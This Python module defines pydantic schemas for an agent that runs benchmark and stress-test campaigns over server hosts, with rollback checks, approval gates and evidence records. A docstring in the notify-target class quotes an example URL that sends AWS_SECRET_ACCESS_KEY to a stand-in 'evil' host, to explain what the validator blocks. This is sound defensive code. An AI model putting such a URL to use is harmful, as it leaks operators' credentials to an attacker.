"""The campaign vocabulary (what the engineer writes) and the evidence the agent produces.

Measurement types live in `tools/`, gate and decision types in `policies/`; this module uses them.
"""

from __future__ import annotations

import re
from typing import Literal

from pydantic import BaseModel, ConfigDict, Field, StrictInt, field_validator, model_validator

from policies.schema import NotifyTarget, env_refs
from tools.benchparse import ParserName
from tools.transport import Host

TEMPLATE_VAR = re.compile(r"\{\{\s*([A-Za-z_][A-Za-z0-9_]*)\s*\}\}")
BUILTIN_VARS = {"python", "campaign_dir", "workdir", "host", "num_prompts", "run", "session"}


class _Strict(BaseModel):
    model_config = ConfigDict(extra="forbid")


class CommandSpec(_Strict):
    """A command and where it runs: a host name, a role, or `all`."""

    run: str = Field(min_length=1)
    on: str = "all"
    timeout: float = Field(default=60.0, gt=0, le=86_400)


def _commands(value: object) -> object:
    # Shorthand: a bare string, or a list of strings, means commands on every host.
    if isinstance(value, str):
        return [{"run": value}]
    if isinstance(value, list):
        return [{"run": v} if isinstance(v, str) else v for v in value]
    return value


class Expectation(_Strict):
    exit: int | None = 0
    stdout_contains: str | None = None
    stdout_not_contains: str | None = None


class Probe(CommandSpec):
    """A read-only check. When its expectation fails it implies a blocker (no-go) or a hazard."""

    name: str
    expect: Expectation = Field(default_factory=Expectation)
    on_fail: Literal["blocker", "hazard"] = "blocker"
    message: str | None = None
    timeout: float = Field(default=30.0, gt=0, le=3600)


class Option(_Strict):
    id: StrictInt = Field(ge=1, le=999)
    title: str = Field(min_length=1)
    hypothesis: str = ""
    expected_gain_pct: float | None = None
    risk: Literal["low", "medium", "high"] = "medium"
    apply: list[CommandSpec] = Field(min_length=1)
    revert: list[CommandSpec] = Field(min_length=1)
    probes: list[Probe] = Field(default_factory=list)
    # Read-only; exit 0 when the option is in effect on the host it runs on, non-zero when it is not.
    # After a crash it decides whether an apply or revert that was cut short took effect (its `on` is
    # ignored: it runs on the host in doubt). Without it, such a mutation opens the rollback gate.
    check: CommandSpec | None = None
    notes: str = ""

    _cmds = field_validator("apply", "revert", mode="before")(_commands)

    @field_validator("check", mode="before")
    @classmethod
    def _check_shorthand(cls, value: object) -> object:
        return {"run": value, "timeout": 30} if isinstance(value, str) else value


class Goal(_Strict):
    text: str
    metric: str = "output_tok_s"
    target_pct: float | None = None


class Upload(_Strict):
    """A file copied from the campaign directory to each target host's working directory at setup."""

    src: str = Field(min_length=1)
    dest: str | None = None  # relative to the host's working directory; default: the file's name
    on: str = "all"


class Baseline(_Strict):
    description: str = ""
    upload: list[Upload] = Field(default_factory=list)
    setup: list[CommandSpec] = Field(default_factory=list)
    health: list[CommandSpec] = Field(default_factory=list)

    _cmds = field_validator("setup", "health", mode="before")(_commands)


class BenchSpec(CommandSpec):
    parser: ParserName = "vllm-json"
    paths: dict[str, str] | None = None
    patterns: dict[str, str] | None = None
    num_prompts: StrictInt | None = Field(default=None, ge=1)
    metric: str = "output_tok_s"
    higher_is_better: bool = True
    pairs: StrictInt = Field(default=6, ge=2, le=50)
    max_pairs: StrictInt = Field(default=10, ge=2, le=50)
    noise_pct: float = Field(default=1.0, ge=0)
    # τ: an effect whose whole CI lies within ±τ is `no_effect`. Default: max(the calibrated noise floor, 1 %).
    equivalence_pct: float | None = Field(default=None, ge=0)
    guardrails: list[str] = Field(default_factory=list)
    guardrail_pct: float = 5.0
    restart: str | None = None  # run before every benchmark run, in both arms (e.g. restart the server)
    warmup: str | None = None  # run before every benchmark run, after `restart`, in both arms
    calibrate_pairs: StrictInt = Field(default=0, ge=0, le=20)  # A/A pairs at setup: measures the noise floor
    post_stress_runs: StrictInt = Field(default=0, ge=0, le=10)  # candidate runs after stress: `degraded` check
    timeout: float = Field(default=600.0, gt=0, le=86_400)

    @model_validator(mode="after")
    def _pairs(self) -> BenchSpec:
        if self.max_pairs < self.pairs:
            raise ValueError(f"max_pairs ({self.max_pairs}) is below pairs ({self.pairs})")
        declared = set(self.paths or {}) | set(self.patterns or {})
        for name in [self.metric, *self.guardrails]:
            if not is_known_metric(name) and name not in declared:
                raise ValueError(
                    f"unknown metric {name!r}: use output_tok_s, total_tok_s, req_s, duration_s, or a latency such "
                    "as p99_tpot / median_ttft / mean_itl / p99_e2e (or declare it under paths/patterns)"
                )
        if self.parser == "json-path" and not self.paths:
            raise ValueError("parser json-path needs `paths` (field → dotted path)")
        if self.parser == "regex" and not self.patterns:
            raise ValueError("parser regex needs `patterns` (field → regex with one group)")
        for field, pattern in (self.patterns or {}).items():
            _compiles(pattern, f"patterns.{field}")
        return self


def is_known_metric(name: str) -> bool:
    return name in THROUGHPUT_METRICS or bool(LATENCY_METRIC.fullmatch(name))


THROUGHPUT_METRICS = {"output_tok_s", "total_tok_s", "req_s", "duration_s"}
LATENCY_METRIC = re.compile(r"(mean|median|std|p\d+(?:\.\d+)?)_(ttft|tpot|itl|e2e)")


def _compiles(pattern: str, where: str) -> None:
    try:
        re.compile(pattern)
    except re.error as exc:
        raise ValueError(f"{where}: {pattern!r} is not a valid regex: {exc}") from None


class StressSpec(CommandSpec):
    name: str
    runs: StrictInt = Field(default=1, ge=1, le=100)
    timeout: float = Field(default=300.0, gt=0, le=86_400)
    # Run on the same host when the scenario overruns its deadline, *before* the kill: a py-spy dump of
    # a hung engine is the evidence a wedge leaves, and it is gone once the process is.
    diagnose: str | None = None
    diagnose_timeout: float = Field(default=30.0, gt=0, le=600)
    crash_patterns: list[str] | None = None  # regexes; default: known engine crash and watchdog lines
    # Run after each scenario run that finished: a non-zero exit means the server did not come back
    # clean (requests stuck, KV blocks leaked, health lying) — a `leak` hazard.
    check: str | None = None

    @model_validator(mode="after")
    def _patterns(self) -> StressSpec:
        for i, pattern in enumerate(self.crash_patterns or []):
            _compiles(pattern, f"crash_patterns[{i}]")
        return self


class RollbackSpec(_Strict):
    """How a rollback (and the post-stress check) is verified. Bands come from the noise measured in the
    run (agent/verification.py); `tolerance_pct` is only the band when there is no noise estimate."""

    verify_runs: StrictInt = Field(default=3, ge=1, le=20)
    # When the first readings after the revert are not back, up to this many more are taken, one at a time,
    # and the latest `verify_runs` judged: a revert that restarts a server reads cold for a while.
    settle_runs: StrictInt = Field(default=6, ge=0, le=20)
    # Before each of those runs a pause, doubling from one benchmark run's length up to this: a busy
    # neighbour or a vacuum after crash recovery lasts longer than a few back-to-back runs. 0: no pause.
    settle_wait_s: float = Field(default=10.0, ge=0, le=300)
    tolerance_pct: float = Field(default=5.0, gt=0)
    floor_pct: float = Field(default=1.0, ge=0)  # a noise band is never narrower than this
    # A band wider than this tells nothing useful: the metric cannot verify, only the option's `check` can.
    ceiling_pct: float = Field(default=20.0, gt=0)

    @model_validator(mode="after")
    def _ordered(self) -> RollbackSpec:
        if self.floor_pct >= self.ceiling_pct:
            raise ValueError(f"floor_pct ({self.floor_pct:g}) must be below ceiling_pct ({self.ceiling_pct:g})")
        return self


class Price(_Strict):
    """US dollars per million tokens."""

    input: float = Field(ge=0)
    output: float = Field(ge=0)
    cache_write: float = Field(ge=0)
    cache_read: float = Field(ge=0)


class BrainSpec(_Strict):
    """Which reasoning runs the campaign, and the limits of the language-model one."""

    kind: Literal["rules", "claude"] = "rules"
    model: str = "claude-sonnet-5-5"
    max_tokens: StrictInt = Field(default=2048, ge=256, le=64_000)  # per call
    max_turns: StrictInt = Field(default=8, ge=1, le=50)  # per investigation subagent
    subagent_tokens: StrictInt = Field(default=60_000, ge=1_000)  # input + output, per subagent
    timeout_s: float = Field(default=90.0, gt=0, le=900)  # per call
    max_retries: StrictInt = Field(default=4, ge=0, le=10)  # on 429, 5xx, overloaded, connection errors
    backoff_s: float = Field(default=1.0, ge=0, le=60)  # first retry wait; doubles, with jitter
    price: Price | None = None  # default: the built-in table for known models


class Fleet(_Strict):
    """How a command spreads over many hosts: at most `parallel[role]` members of a role run at once
    (the others wait their turn), and at most `max_parallel` hosts overall."""

    parallel: dict[str, StrictInt] = Field(default_factory=dict)
    max_parallel: StrictInt = Field(default=32, ge=1, le=512)

    @field_validator("parallel")
    @classmethod
    def _positive(cls, value: dict[str, int]) -> dict[str, int]:
        bad = [role for role, n in value.items() if n < 1]
        if bad:
            raise ValueError(f"parallel must be at least 1 (role {', '.join(bad)})")
        return value


class CampaignNotifyTarget(NotifyTarget):
    """A `notify:` target in a campaign. A campaign is the file someone hands you, so it may not read
    the environment: `url: https://evil/?k={{env:AWS_SECRET_ACCESS_KEY}}` would send your secret with the
    first gate. Only the policy file (the operator's) may name environment variables."""

    @model_validator(mode="after")
    def _no_environment(self) -> CampaignNotifyTarget:
        if any(env_refs(t) for t in [self.url or "", *self.headers.values()]):
            raise ValueError(
                "a campaign's notify: cannot read the environment ({{env:NAME}}); put a target that needs a "
                "credential in the policy file's notify:"
            )
        return self


class Campaign(_Strict):
    name: str
    goal: Goal
    facts: list[str] = Field(default_factory=list)
    hosts: list[Host] = Field(min_length=1)
    vars: dict[str, str] = Field(default_factory=dict)
    # Names of environment variables a command may use as {{NAME}}: passed on stdin, never on a command
    # line, and redacted everywhere. Variables under `vars` named like *_TOKEN, *_KEY, … are secrets too.
    secrets: list[str] = Field(default_factory=list)
    baseline: Baseline = Field(default_factory=Baseline)
    benchmark: BenchSpec
    stress: list[StressSpec] = Field(default_factory=list)
    rollback: RollbackSpec = Field(default_factory=RollbackSpec)
    brain: BrainSpec = Field(default_factory=BrainSpec)
    fleet: Fleet = Field(default_factory=Fleet)
    # Told when a gate starts waiting for a person, before the policy's own `notify:` (agent/run/notify.py).
    notify: list[CampaignNotifyTarget] = Field(default_factory=list)
    options: list[Option] = Field(min_length=1)

    @model_validator(mode="after")
    def _consistent(self) -> Campaign:
        if self.goal.metric != self.benchmark.metric:
            raise ValueError(
                f"goal.metric ({self.goal.metric}) differs from benchmark.metric "
                f"({self.benchmark.metric}); the goal is judged on what the benchmark measures"
            )
        return self

    def option(self, option_id: int) -> Option:
        for option in self.options:
            if option.id == option_id:
                return option
        raise KeyError(option_id)

    def targets(self, on: str) -> list[Host]:
        if on == "all":
            return list(self.hosts)
        named = [h for h in self.hosts if h.name == on]
        return named or [h for h in self.hosts if on in h.roles]


# ---- evidence (small, JSON-plain; bulky output lives in artifacts/) ----


class Finding(BaseModel):
    option: int
    feasible: bool
    blockers: list[str] = Field(default_factory=list)
    hazards: list[str] = Field(default_factory=list)  # confirmed: a failed hazard probe, a cited finding
    unchecked: list[str] = Field(default_factory=list)  # what it wanted to check and was not allowed to
    confidence: float = 0.0
    sources: list[str] = Field(default_factory=list)  # "host: command → exit N" / artifact refs
    summary: str = ""  # the investigator's own words (language-model brains)
    permission_requests: list[dict[str, str]] = Field(default_factory=list)  # {host, command} it could not run


class Assessment(BaseModel):
    option: int
    verdict: Literal["safe", "unsafe", "unknown"]
    ab_verdict: Literal["improved", "regressed", "no_effect", "inconclusive"]
    gain_pct: float | None
    ci: list[float] | None
    pairs: int
    wedges: int
    stress_errors: int
    failed_requests: int
    hazards: list[str]
    confidence: float
    hazard_reproduced: bool = False  # a confirmed hazard that stress also made happen
    measurement_broken: bool = False  # the benchmark failed on the baseline too: nothing was measured
    risk: Literal["low", "medium", "high"]
    recommendation: Literal["keep", "skip", "ask"]
    reasons: list[str]
    rationale: str | None = None  # prose for the person at the gate; never changes the numbers above
    next_step: str | None = None  # the same, for the continue-or-ask gate that follows


class Plan(BaseModel):
    order: list[int]
    rationale: dict[int, str] = Field(default_factory=dict)
    proposals: list[Option] = Field(default_factory=list)  # new options; they enter only through the plan gate
